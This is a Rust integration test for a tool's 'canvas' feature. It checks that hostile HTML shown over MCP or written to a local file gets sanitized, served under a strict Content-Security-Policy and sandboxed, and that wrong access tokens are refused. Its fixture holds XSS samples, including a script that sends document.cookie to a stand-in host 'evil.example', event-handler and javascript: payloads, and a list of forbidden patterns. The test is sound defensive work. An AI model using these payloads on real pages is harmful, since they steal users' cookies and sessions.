//! `canvas` through the real binary. Under `toolgate serve --http`: hostile HTML presented over
//! MCP (rmcp's Streamable HTTP client), the page fetched with a real HTTP client (reqwest) from
//! the link in the result, sanitized and under a strict Content-Security-Policy, wrong tokens
//! refused, changes read from the page's `text/event-stream`, `clear`, and `snapshot` as a PNG.
//! Under `toolgate call` (no HTTP server): the self-reloading file, continued by a later
//! process, and its snapshot.

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use rmcp::ServiceExt as _;
use rmcp::model::CallToolRequestParams;
use rmcp::transport::StreamableHttpClientTransport;
use rmcp::transport::streamable_http_client::StreamableHttpClientTransportConfig;
use serde_json::{Value, json};

use crate::capture::{base64_decode, keep, png_size};

const TOOLGATE: &str = env!("CARGO_BIN_EXE_toolgate");

/// Everything a hostile model might put on a canvas, and something worth showing.
const HOSTILE: &str = r##"<h1>Release 1.4</h1>
<script>fetch("http://evil.example/steal?" + document.cookie)</script>
<p onclick="alert('clicked')" style="color:#0b6e4f">All <b>42</b> checks passed.</p>
<p><a href="javascript:alert(document.domain)">run me</a> and <a href="https://example.com/notes">the notes</a></p>
<svg width="240" height="80" xmlns="http://www.w3.org/2000/svg"><rect width="240" height="80" rx="8" fill="#0b6e4f"/>
<foreignObject width="200" height="60"><div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(2)">inside</div></foreignObject>
<circle cx="40" cy="40" r="24" fill="#f4a259"/><text x="80" y="48" fill="#fff" font-size="20">toolgate</text></svg>"##;

/// Words that must not survive the sanitizer anywhere on the page.
const FORBIDDEN: [&str; 7] =
    ["<script", "onclick", "onerror", "javascript:", "foreignobject", "evil.example", "alert("];

type Client = rmcp::service::RunningService<rmcp::RoleClient, ()>;

async fn connect(url: &str, token: &str) -> Client {
    let config = StreamableHttpClientTransportConfig::with_uri(url).auth_header(token);
    let transport = StreamableHttpClientTransport::from_config(config);
    ().serve(transport).await.expect("MCP handshake")
}

/// Calls `canvas` with `args`; the result's text and its image blocks' bytes.
async fn canvas(client: &Client, args: Value) -> (String, Vec<Vec<u8>>) {
    let args = args.as_object().cloned().unwrap();
    let result = client.call_tool(CallToolRequestParams::new("canvas").with_arguments(args)).await.unwrap();
    let text: String = result.content.iter().filter_map(|c| c.as_text().map(|t| t.text.clone())).collect();
    assert_ne!(result.is_error, Some(true), "{text}");
    let images = result
        .content
        .iter()
        .filter_map(|c| c.as_image())
        .map(|i| {
            assert_eq!(i.mime_type, "image/png");
            base64_decode(&i.data)
        })
        .collect();
    (text, images)
}

/// The `/canvas/TOKEN` path in a result's text.
fn canvas_path(text: &str) -> String {
    let at = text.find("/canvas/").unwrap_or_else(|| panic!("no canvas link in: {text}"));
    let token: String = text[at + "/canvas/".len()..].chars().take_while(char::is_ascii_hexdigit).collect();
    assert_eq!(token.len(), 64, "a 256-bit token: {text}");
    format!("/canvas/{token}")
}

/// GETs `path` on the server: status, headers, body.
async fn get(base: &str, path: &str) -> (u16, reqwest::header::HeaderMap, String) {
    let response = reqwest::get(format!("{base}{path}")).await.unwrap();
    let status = response.status().as_u16();
    let headers = response.headers().clone();
    (status, headers, response.text().await.unwrap())
}

fn header<'a>(headers: &'a reqwest::header::HeaderMap, name: &str) -> &'a str {
    headers.get(name).and_then(|v| v.to_str().ok()).unwrap_or_default()
}

/// The frame path (`/canvas/-/frame/ID`) the viewer page loads.
fn frame_of(viewer: &str) -> String {
    let at = viewer.find("src=\"/canvas/-/frame/").unwrap_or_else(|| panic!("no frame in the viewer: {viewer}"));
    viewer[at + 5..].split('"').next().unwrap().to_owned()
}

/// The viewer's event stream, read as it arrives.
struct Events {
    response: reqwest::Response,
    buffer: String,
}

impl Events {
    /// The next event's data, as JSON (waits at most 30 s).
    async fn next(&mut self) -> Value {
        let read = async {
            loop {
                if let Some(end) = self.buffer.find("\n\n") {
                    let event: String = self.buffer.drain(..end + 2).collect();
                    let data: String =
                        event.lines().filter_map(|l| l.strip_prefix("data:")).map(str::trim_start).collect();
                    if !data.is_empty() {
                        return serde_json::from_str(&data).unwrap();
                    }
                    continue;
                }
                let chunk = self.response.chunk().await.unwrap().expect("the event stream ended");
                self.buffer.push_str(&String::from_utf8_lossy(&chunk));
            }
        };
        tokio::time::timeout(Duration::from_secs(30), read).await.expect("no event within 30 s")
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn canvas_over_serve_http_is_sanitized_live_and_private() {
    // reqwest is built without a TLS provider in this workspace; plain HTTP still needs one set.
    let _ = rustls::crypto::ring::default_provider().install_default();
    let server = toolgate_testkit::serve::HttpServer::start(TOOLGATE, &[]);
    let token = server.token.clone().expect("token file");
    let base = server.url.trim_end_matches("/mcp").to_owned();
    let client = connect(&server.url, &token).await;

    let (text, _) =
        canvas(&client, json!({"action": "present", "content": HOSTILE, "title": "Release <b>notes</b>"})).await;
    assert!(text.contains("Canvas replaced (version 1, 1 section"), "{text}");
    assert!(text.contains("The sanitizer removed"), "{text}");
    let page = canvas_path(&text);

    // The viewer: our script only, no referrer, no cache.
    let (status, headers, viewer) = get(&base, &page).await;
    assert_eq!(status, 200, "{viewer}");
    let csp = header(&headers, "content-security-policy");
    assert!(csp.contains("default-src 'none'") && csp.contains("script-src 'self'"), "{csp}");
    assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
    assert_eq!(header(&headers, "referrer-policy"), "no-referrer");
    assert_eq!(header(&headers, "cache-control"), "no-store");
    assert!(viewer.contains("<title>Release &lt;b&gt;notes&lt;/b&gt;</title>"), "the title is text: {viewer}");
    assert!(viewer.contains("<iframe id=\"canvas\" sandbox=\"\""), "{viewer}");
    assert!(!viewer.contains(&page[8..]), "the frame's address is not the token");

    // The content, in its own sandboxed document: what was safe is there, the attacks are not.
    let frame = frame_of(&viewer);
    let (status, headers, content) = get(&base, &frame).await;
    assert_eq!(status, 200, "{content}");
    let csp = header(&headers, "content-security-policy");
    assert!(csp.starts_with("default-src 'none';") && csp.ends_with("; sandbox"), "{csp}");
    assert!(!csp.contains("script-src"), "no script at all: {csp}");
    for kept in [
        "Release 1.4",
        "All <b>42</b> checks passed.",
        "href=\"https://example.com/notes\"",
        "<circle",
        "toolgate</text>",
    ] {
        assert!(content.contains(kept), "`{kept}` missing from {content}");
    }
    for word in FORBIDDEN {
        assert!(!content.to_ascii_lowercase().contains(word), "`{word}` survived: {content}");
    }

    // Wrong tokens: a near miss, a frame id used as a token, a token used as a frame id.
    let last = page.chars().last().unwrap();
    let near = format!("{}{}", &page[..page.len() - 1], if last == '0' { '1' } else { '0' });
    for path in [
        near.clone(),
        format!("{near}/events"),
        format!("/canvas/{}", &frame[16..]),
        format!("/canvas/-/frame/{}", &page[8..]),
    ] {
        let (status, _, body) = get(&base, &path).await;
        assert_eq!(status, 404, "{path}: {body}");
        assert!(!body.contains("Release"), "{path}: {body}");
    }
    let posted = reqwest::Client::new().post(format!("{base}{page}")).send().await.unwrap();
    assert_eq!(posted.status().as_u16(), 405);

    // Changes arrive on the event stream, each with a new frame; the old frame is gone.
    let response = reqwest::get(format!("{base}{page}/events")).await.unwrap();
    assert_eq!(response.status().as_u16(), 200);
    assert!(header(response.headers(), "content-type").starts_with("text/event-stream"));
    let mut events = Events { response, buffer: String::new() };
    let first = events.next().await;
    assert_eq!((first["version"].clone(), first["frame"].clone()), (json!(1), json!(frame)), "{first}");
    let table = "## Checks\n\n| suite | result |\n|---|---|\n| unit | **passed** |\n| e2e | ~~flaky~~ passed |\n\n- [x] canvas\n- [x] capture_screenshot";
    let (text, _) = canvas(&client, json!({"action": "update", "section": "checks", "content": table})).await;
    assert!(text.contains("Canvas updated (version 2, 2 sections"), "{text}");
    let second = events.next().await;
    assert_eq!(second["version"], 2, "{second}");
    assert_eq!(second["sections"], 2, "{second}");
    let frame2 = second["frame"].as_str().unwrap().to_owned();
    assert_ne!(frame2, frame);
    let (status, _, content) = get(&base, &frame2).await;
    assert_eq!(status, 200);
    assert!(
        content.contains("<table>") && content.contains("<del>flaky</del>") && content.contains("Release 1.4"),
        "{content}"
    );
    assert_eq!(get(&base, &frame).await.0, 404, "the replaced version is gone");

    // A snapshot through the browser: a PNG of the asked size.
    let (text, images) = canvas(&client, json!({"action": "snapshot", "width": 800, "height": 500})).await;
    assert!(text.contains("Snapshot of the canvas (800x500"), "{text}");
    assert_eq!(images.len(), 1);
    assert_eq!(png_size(&images[0]), Some((800, 500)));
    let shot = server.ws.path().join("canvas-snapshot.png");
    std::fs::write(&shot, &images[0]).unwrap();
    keep(&shot, "canvas_snapshot.png");

    // `clear` empties the page, and open pages hear it.
    let (text, _) = canvas(&client, json!({"action": "clear"})).await;
    assert!(text.contains("Canvas cleared (version 3, 0 sections"), "{text}");
    let third = events.next().await;
    assert_eq!((third["version"].clone(), third["sections"].clone()), (json!(3), json!(0)), "{third}");
    let (_, _, content) = get(&base, third["frame"].as_str().unwrap()).await;
    assert!(!content.contains("Release 1.4") && content.contains("<body></body>"), "{content}");

    // Another session has its own page, with its own token; ours is unchanged.
    let other = connect(&server.url, &token).await;
    let (text, _) = canvas(&other, json!({"action": "present", "content": "other session"})).await;
    assert_ne!(canvas_path(&text), page);
    assert_eq!(get(&base, &page).await.0, 200);
    other.cancel().await.unwrap();
    client.cancel().await.unwrap();
}

/// `toolgate call canvas ...`: each call is a process of its own.
fn call(ws: &Path, params: &Value) -> (bool, Value, String) {
    let out = Command::new(TOOLGATE)
        .arg("--workspace")
        .arg(ws)
        .args(["call", "--json", "canvas", &params.to_string()])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let output = format!("{stdout}\n{}", String::from_utf8_lossy(&out.stderr));
    (out.status.success(), serde_json::from_str(&stdout).unwrap_or(Value::Null), output)
}

#[test]
fn canvas_without_a_server_writes_a_self_reloading_page() {
    let ws = tempfile::tempdir().unwrap();
    let (ok, result, output) = call(ws.path(), &json!({"action": "present", "content": HOSTILE}));
    assert!(ok, "{output}");
    let text = result["content"][0]["text"].as_str().unwrap();
    let file = result["meta"]["file"].as_str().unwrap().to_owned();
    assert!(file.starts_with(&ws.path().join(".toolgate/canvas").display().to_string()), "{output}");
    assert!(text.contains(&format!("open file://{file} in a browser; it reloads itself every 2 seconds")), "{output}");
    assert!(text.contains("run `toolgate serve --http`"), "{output}");
    let page = std::fs::read_to_string(&file).unwrap();
    assert!(page.contains("<meta http-equiv=\"refresh\" content=\"2\">"), "{page}");
    assert!(page.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none';"), "{page}");
    assert!(page.contains("All <b>42</b> checks passed."), "{page}");
    for word in FORBIDDEN {
        assert!(!page.to_ascii_lowercase().contains(word), "`{word}` survived: {page}");
    }

    // A later process continues the same page, and can take its snapshot.
    let (ok, result, output) = call(ws.path(), &json!({"action": "update", "content": "**second** call"}));
    assert!(ok, "{output}");
    assert!(result["content"][0]["text"].as_str().unwrap().contains("version 2, 2 sections"), "{output}");
    assert_eq!(result["meta"]["file"], json!(file));
    let page = std::fs::read_to_string(&file).unwrap();
    assert!(page.contains("Release 1.4") && page.contains("<strong>second</strong> call"), "{page}");
    let (ok, result, output) = call(ws.path(), &json!({"action": "snapshot", "width": 400, "height": 300}));
    assert!(ok, "{output}");
    assert_eq!(result["content"][1]["type"], "image", "{output}");
    assert_eq!(png_size(&base64_decode(result["content"][1]["data"].as_str().unwrap())), Some((400, 300)));

    // Bad input: a clear error, the page unchanged.
    let (ok, _, output) = call(ws.path(), &json!({"action": "present"}));
    assert!(!ok && output.contains("`present` needs `content`"), "{output}");
    let (ok, _, output) = call(ws.path(), &json!({"action": "clear", "content": "x"}));
    assert!(!ok && output.contains("`clear` takes no `content`"), "{output}");
    let (ok, _, output) = call(ws.path(), &json!({"action": "draw"}));
    assert!(!ok && output.contains("action"), "{output}");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), page);
}
